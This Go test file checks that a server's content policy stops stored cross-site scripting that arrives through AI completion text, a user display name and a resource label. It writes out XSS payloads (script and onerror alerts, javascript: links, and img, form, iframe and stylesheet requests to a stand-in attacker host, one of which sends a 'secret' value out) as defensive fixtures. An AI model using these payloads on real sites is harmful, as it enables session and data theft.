package content

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/resourcepool/resourcepool/server/programtest"
)

// hostile is what a model answers, and what a person is called, when it is up to an attacker: each line runs a script or
// asks evil for something where a page shows it as what it says it is.
func hostile(evil string) string {
	return strings.ReplaceAll(`<img src="x" onerror="alert('img')"><script>alert('script')</script><svg onload="alert('svg')"></svg>`+
		`<a id="link" href="javascript:alert('link')">here</a><iframe src="EVIL/frame"></iframe><img src="EVIL/?q=secret">`+
		`<form id="form" action="EVIL/form" method="post"><input name="q" value="secret"></form>`+
		`<link rel="stylesheet" href="EVIL/style.css"><object data="EVIL/object"></object>![](EVIL/?q)`, "EVIL", evil)
}

// What an attacker writes is text in every answer, and a page that forgot so would run none of it: the policy that comes
// with each page lets no script run but the program's own, and nothing be asked of another host.
func TestRow45_StoredXSS(t *testing.T) {
	t.Parallel()
	var hits atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(evil.Close)
	text := hostile(evil.URL)
	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.HasSuffix(r.URL.Path, "/models") {
			_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"gpt-4","object":"model"}]}`)
			return
		}
		_ = json.NewEncoder(w).Encode(map[string]any{
			"id": "x", "object": "chat.completion", "model": "gpt-4", "usage": map[string]int{"prompt_tokens": 3, "completion_tokens": 5, "total_tokens": 8},
			"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "message": map[string]string{"role": "assistant", "content": text}}},
		})
	}))
	t.Cleanup(provider.Close)
	p := programtest.Serve(t, "POOL_PROVIDER_URLS=openai="+provider.URL+"/v1")
	admin := p.Admin()
	admin.GPT4()
	admin.Must(programtest.AddPlatformResource, vars{"i": vars{"provider": "openai", "apiKey": "sk-row45-0123456789", "quota": "10", "label": text[:60]}})
	tom := p.Anonymous()
	name := `<img src=x onerror=alert(1)>`
	tom.ID = tom.Must(`mutation($n: String!) { signUp(input: {email: "tom@example.org", password: "password of tom", displayName: $n}) { viewer { id } } }`,
		vars{"n": name}).Get("signUp.viewer.id").String()
	admin.Grant(tom, "50")
	require.Equal(t, text, tom.Must(programtest.Complete, programtest.Ask("gpt-4", nil)).Get("complete.completion.content").String(), "it is passed on as it is")

	b := openBrowser(t)
	for _, as := range []struct {
		who      *programtest.Client
		document string
	}{
		{tom, `mutation { complete(input: {model: "gpt-4", messages: [{role: USER, content: "Write"}]}) { completion { content } } }`},
		{admin, `{ users { edges { node { displayName } } } resources { edges { node { label } } } }`},
	} {
		at, err := url.Parse(p.URL)
		require.NoError(t, err)
		for _, c := range as.who.HTTP.Jar.Cookies(at) {
			b.call("Network.setCookie", map[string]any{"url": p.URL, "name": c.Name, "value": c.Value, "httpOnly": true})
		}
		b.open(p.URL + "/graphiql")
		document, err := json.Marshal(map[string]string{"query": as.document})
		require.NoError(t, err)
		shown := b.run(fmt.Sprintf(`(async () => {
			const answer = await fetch("/graphql", {method: "POST", headers: {"Content-Type": "application/json"}, body: %q});
			const strings = [];
			JSON.parse(await answer.text(), (_, value) => { if (typeof value === "string") strings.push(value); return value; });
			const careless = document.createElement("div");
			careless.innerHTML = strings.join("");
			document.body.append(careless);
			careless.querySelector("#link")?.click();
			setTimeout(() => careless.querySelector("#form")?.submit(), 100);
			return strings.join("");
		})()`, document)).String()
		require.Contains(t, shown, "onerror=", "the attacker's text is on the page")
		time.Sleep(500 * time.Millisecond) // for what would happen
	}
	assert.Empty(t, b.said())
	assert.Zero(t, hits.Load())
}
